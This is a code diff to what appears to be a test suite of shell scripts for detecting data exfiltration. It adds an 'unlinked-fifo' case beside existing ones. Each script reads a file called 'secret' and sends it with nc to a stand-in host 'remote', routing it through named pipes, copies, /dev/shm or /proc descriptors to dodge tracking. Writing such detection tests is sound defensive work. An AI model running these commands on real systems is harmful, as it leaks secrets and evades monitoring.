@@ -38,6 +38,9 @@ SCRIPTS = {
     "fifo": "mkfifo way; nc remote 9 < way & cat secret > way; wait $!",
     "fifo-late": f"mkfifo way; {LATE_READER} way' & exec 5<> way; cat secret >&5; touch go; wait $!",
     "opened-by-proc": f"mkfifo way; {LATE_READER} /proc/'$$'/fd/5' & exec 5<> way; cat secret >&5; touch go; wait $!",
+    # With the last of two names the kernel takes the inode for deleted, although it is open by the other.
+    "unlinked-fifo": f"mkfifo way; ln way other; {LATE_READER} /proc/'$$'/fd/5' & exec 5<> way; cat secret >&5; rm way other\n"
+                     "touch go; wait $!",
     "cp": "cp secret copy; nc remote 9 < copy",
     "cp-by-writes": "cat secret > copy; nc remote 9 < copy",
     "cp-to-memory": "cat secret > /dev/shm/copy; nc remote 9 < /dev/shm/copy; rm -f /dev/shm/copy",
